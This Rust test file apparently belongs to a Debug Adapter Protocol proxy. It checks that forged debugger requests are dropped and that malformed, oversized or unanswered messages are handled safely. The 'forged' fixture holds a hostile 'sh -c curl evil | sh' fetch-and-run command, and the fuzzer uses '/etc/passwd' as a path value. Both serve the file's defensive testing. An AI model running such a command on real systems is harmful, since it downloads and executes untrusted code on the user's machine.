//! Debuggers that the program has taken over, that die, or that say anything at all.

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::strategy::LazyJust;

use super::*;
use crate::debug::proxy::Refusal;

/// What a program writes on its debugger's stream to have the editor run a command on its own machine.
fn forged() -> Value {
    let arguments = json!({"kind": "external", "cwd": "/", "args": ["sh", "-c", "curl evil | sh"]});
    json!({"seq": 66, "type": "request", "command": "runInTerminal", "arguments": arguments})
}

/// What a proxy does that copies bytes.
async fn copied(bytes: &[u8]) -> Value {
    let (mut debugger, mut inside) = tokio::io::duplex(4096);
    let (mut outside, mut client) = tokio::io::duplex(4096);
    let copying = tokio::spawn(async move { tokio::io::copy(&mut inside, &mut outside).await });
    debugger.write_all(bytes).await.unwrap();
    drop(debugger);
    let mut heard = Vec::new();
    client.read_to_end(&mut heard).await.unwrap();
    copying.await.unwrap().unwrap();
    let mut decoder = Decoder::new(4096);
    decoder.feed(&heard);
    let Some(Event::Body(body)) = decoder.next_event() else { panic!("no message") };
    serde_json::from_slice(&body).unwrap()
}

#[tokio::test]
async fn a_forged_request_to_run_a_command_does_not_get_out() {
    let body = forged().to_string();
    let framed = format!("Content-Length: {}\r\n\r\n{body}", body.len());
    assert_eq!(copied(framed.as_bytes()).await, forged(), "a proxy that copies bytes hands it to the editor");

    let mut stage = Stage::new();
    stage.debugger.say_raw(framed.as_bytes()).await;
    let mut child = forged();
    child["command"] = json!("startDebugging");
    stage.debugger.say(child).await;
    let mut disguised = forged();
    disguised["type"] = json!("reverseRequest");
    stage.debugger.say(disguised).await;
    stage.debugger.event("runInTerminal", forged()).await;
    stage.debugger.say(json!({"seq": 1, "type": "response", "request_seq": 1, "success": true})).await;
    stage.debugger.event("output", json!({"output": "the end"})).await;
    assert_eq!(stage.event("output").await["output"], "the end", "nothing else came before it");
    assert_eq!(stage.proxy.dropped(), 5);
}

#[tokio::test]
async fn a_request_is_answered_once_however_often_the_debugger_answers() {
    let mut stage = Stage::new();
    let seq = stage.send("threads", json!({})).await;
    let asked = stage.debugger.asked().await;
    for name in ["first", "second"] {
        let threads = json!({"threads": [{"id": 1, "name": name}]});
        stage
            .debugger
            .say(json!({"type": "response", "request_seq": asked["seq"], "success": true, "body": threads}))
            .await;
    }
    assert_eq!(stage.result(seq).await.unwrap()["threads"][0]["name"], "first");
    stage.debugger.event("output", json!({"output": ""})).await;
    stage.event("output").await;
    assert_eq!(stage.proxy.dropped(), 1);
}

#[tokio::test]
async fn nothing_is_left_unanswered_when_the_debugger_dies() {
    let mut stage = Stage::new();
    let asked = [stage.send("threads", json!({})).await, stage.send("evaluate", json!({"expression": "1"})).await];
    let proxy = stage.proxy.clone();
    let control = tokio::spawn(async move { proxy.control("launch", json!({})).await });
    for _ in 0..3 {
        stage.debugger.asked().await;
    }
    drop(stage.debugger);
    let mut answered = Vec::new();
    while let Some(message) = tokio::time::timeout(DEADLINE, stage.out.recv()).await.expect("an end") {
        let ToClient::Response(response) = message else { panic!("{message:?}") };
        assert_eq!(response.result, Err(Refusal::Gone.to_string()));
        answered.push(response.request_seq);
    }
    answered.sort_unstable();
    assert_eq!(answered, asked);
    assert_eq!(control.await.unwrap(), Err(Refusal::Gone));
    assert_eq!(stage.proxy.request("threads", json!({})).await, Err(Refusal::Gone));
}

#[tokio::test]
async fn a_debugger_that_does_not_answer_is_not_waited_for() {
    let mut stage = Stage::with_patience(Duration::from_millis(100));
    let seq = stage.send("threads", json!({})).await;
    let asked = stage.debugger.asked().await;
    let waited = stage.hears().await;
    let ToClient::Response(response) = waited else { panic!("{waited:?}") };
    assert_eq!(response.request_seq, seq);
    assert!(response.result.unwrap_err().contains("did not answer"));
    // What comes too late finds nobody.
    let late = json!({"type": "response", "request_seq": asked["seq"], "success": true, "body": {"threads": []}});
    stage.debugger.say(late).await;
    stage.debugger.event("output", json!({"output": ""})).await;
    stage.event("output").await;
}

#[tokio::test]
async fn a_debugger_that_reads_nothing_is_asked_no_more_than_it_can_hold() {
    let mut stage = Stage::new();
    let big = "x".repeat(4096);
    let mut busy = 0;
    for _ in 0..600 {
        stage.send("evaluate", json!({"expression": big})).await;
        while let Ok(message) = stage.out.try_recv() {
            let ToClient::Response(response) = message else { panic!("{message:?}") };
            assert_eq!(response.result, Err(Refusal::Busy.to_string()));
            busy += 1;
        }
    }
    assert!(busy > 200, "{busy}");
}

#[tokio::test]
async fn answers_that_dap_does_not_allow_are_failures_and_such_events_nothing() {
    let mut stage = Stage::new();
    for (command, body) in [
        ("threads", json!({"threads": "many"})),
        ("threads", json!({"threads": [{"id": "1", "name": "main"}]})),
        ("threads", Value::Null),
        ("scopes", json!({"scopes": [{"variablesReference": 1}]})),
        ("evaluate", json!({"result": 3, "variablesReference": 0})),
    ] {
        let (_, result) = stage.dialogue(command, json!({}), body.clone()).await;
        assert_eq!(result, Err(Refusal::Senseless.to_string()), "{command} {body}");
    }
    for (event, body) in [
        ("stopped", json!({})),
        ("stopped", json!({"reason": "step", "threadId": "x"})),
        ("exited", Value::Null),
        ("thread", json!({"reason": "started", "threadId": [1]})),
        ("output", json!({"output": 3})),
        ("output", json!({"output": "x", "category": "telemetry"})),
        ("memory", json!({"memoryReference": "0", "offset": 0, "count": 1})),
        ("progressStart", json!({"progressId": "1", "title": "x"})),
        ("made-up", json!({})),
    ] {
        stage.debugger.event(event, body).await;
    }
    stage.debugger.event("exited", json!({"exitCode": 3})).await;
    stage.debugger.event("exited", json!({"exitCode": 4})).await;
    stage.debugger.event("terminated", json!({"restart": {"__restart": true}})).await;
    assert_eq!(stage.event("exited").await, json!({"exitCode": 3}));
    assert_eq!(stage.event("terminated").await, json!({}), "what would make the editor launch again is left out");
}

#[tokio::test]
async fn what_is_too_long_or_too_deep_is_dropped_and_the_next_message_found() {
    let mut stage = Stage::new();
    stage.debugger.say_raw(b"some words of a program\n").await;
    let nested = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let deep = format!("{{\"type\":\"event\",\"event\":\"output\",\"body\":{{\"output\":\"x\",\"odd\":{nested}}}}}");
    stage.debugger.say_raw(format!("Content-Length: {}\r\n\r\n{deep}", deep.len()).as_bytes()).await;
    let length = 9 << 20;
    stage.debugger.say_raw(format!("Content-Length: {length}\r\n\r\n").as_bytes()).await;
    stage.debugger.say_raw(&vec![b' '; length]).await;
    stage.debugger.event("output", json!({"output": "y".repeat(3 << 20)})).await;
    let text = stage.event("output").await["output"].as_str().unwrap().to_owned();
    assert!(text.len() <= 1 << 20 && text.ends_with("y…"));
    assert_eq!(stage.proxy.dropped(), 3);
}

/// Any JSON, with the names and numbers of DAP in it more often than chance would have it.
fn any_value() -> impl Strategy<Value = Value> {
    let number = prop_oneof![(-2_i64..9).prop_map(Value::from), any::<u64>().prop_map(Value::from)];
    let words = ["/workspace/a.go", "/etc/passwd", "started", "step", "\u{202e}x", "stdout", "module", "a"];
    let leaf = prop_oneof![
        LazyJust::new(|| Value::Null),
        any::<bool>().prop_map(Value::from),
        number,
        prop::sample::select(words.to_vec()).prop_map(Value::from),
    ];
    let names = [
        "id",
        "name",
        "path",
        "source",
        "threadId",
        "frameId",
        "variablesReference",
        "sourceReference",
        "line",
        "column",
        "verified",
        "threads",
        "stackFrames",
        "scopes",
        "variables",
        "breakpoints",
        "reason",
        "output",
        "category",
        "module",
        "breakpoint",
        "allThreadsContinued",
        "value",
        "result",
        "content",
        "sources",
        "expensive",
    ];
    leaf.prop_recursive(4, 48, 8, move |inner| {
        let object = vec((prop::sample::select(names.to_vec()), inner.clone()), 0..8);
        let object =
            object.prop_map(|fields| Value::Object(fields.into_iter().map(|(k, v)| (k.to_owned(), v)).collect()));
        prop_oneof![vec(inner, 0..5).prop_map(Value::Array), object]
    })
}

/// What a random debugger does next.
#[derive(Debug, Clone)]
enum Act {
    /// The client asks.
    Ask(&'static str, Value),
    /// The debugger answers one of the requests, perhaps one that was never made.
    Answer(i64, bool, Value),
    Event(&'static str, Value),
    Message(Value),
    Bytes(Vec<u8>),
}

fn any_act() -> impl Strategy<Value = Act> {
    let commands =
        ["threads", "stackTrace", "scopes", "variables", "continue", "setBreakpoints", "source", "evaluate", "odd"];
    let events = ["stopped", "continued", "output", "thread", "breakpoint", "module", "exited", "loadedSource", "odd"];
    prop_oneof![
        (prop::sample::select(commands.to_vec()), any_value()).prop_map(|(command, value)| Act::Ask(command, value)),
        (0_i64..12, any::<bool>(), any_value()).prop_map(|(seq, success, body)| Act::Answer(seq, success, body)),
        (prop::sample::select(events.to_vec()), any_value()).prop_map(|(event, body)| Act::Event(event, body)),
        any_value().prop_map(Act::Message),
        vec(any::<u8>(), 0..64).prop_map(Act::Bytes),
    ]
}

/// Whether a path of the sandbox is in what a client heard, or a number where DAP has none.
fn leaks(message: &Value) -> bool {
    match message {
        Value::Object(fields) => fields.iter().any(|(name, value)| {
            let of_the_sandbox =
                value.as_str().is_some_and(|text| text.starts_with("/workspace") || text.starts_with("/etc"));
            (name == "path" && of_the_sandbox) || leaks(value)
        }),
        Value::Array(elements) => elements.iter().any(leaks),
        _ => false,
    }
}

#[test]
fn a_random_debugger_breaks_nothing_and_every_request_is_answered_once() {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    proptest!(ProptestConfig::with_cases(300), |(acts in vec(any_act(), 0..40))| {
        let outcome: Result<(), TestCaseError> = runtime.block_on(async {
            let Stage { proxy, mut out, mut debugger, .. } = Stage::new();
            let mut asked = Vec::new();
            for (seq, act) in (1..).zip(acts) {
                match act {
                    Act::Ask(command, arguments) => {
                        let request = Request { seq, command: command.to_owned(), arguments };
                        proxy.pass(request).await.expect("the proxy stands");
                        asked.push(seq);
                    }
                    Act::Answer(seq, success, body) => {
                        debugger.say(json!({"type": "response", "request_seq": seq, "success": success, "body": body})).await;
                    }
                    Act::Event(event, body) => debugger.event(event, body).await,
                    Act::Message(message) => debugger.say(message).await,
                    Act::Bytes(bytes) => debugger.say_raw(&bytes).await,
                }
            }
            drop(debugger);
            let mut answered = Vec::new();
            while let Some(message) = out.recv().await {
                let is_request = matches!(message, ToClient::Request { .. });
                prop_assert!(!is_request, "a request got out");
                if let ToClient::Response(response) = &message {
                    answered.push(response.request_seq);
                }
                let message = message.into_message(1);
                // Fields that are no paths in DAP may say what they like.
                prop_assert!(!leaks(&message["body"]["source"]) && !leaks(&message["body"]["stackFrames"]), "{}", message);
            }
            answered.sort_unstable();
            prop_assert_eq!(answered, asked);
            Ok(())
        });
        outcome?;
    });
}
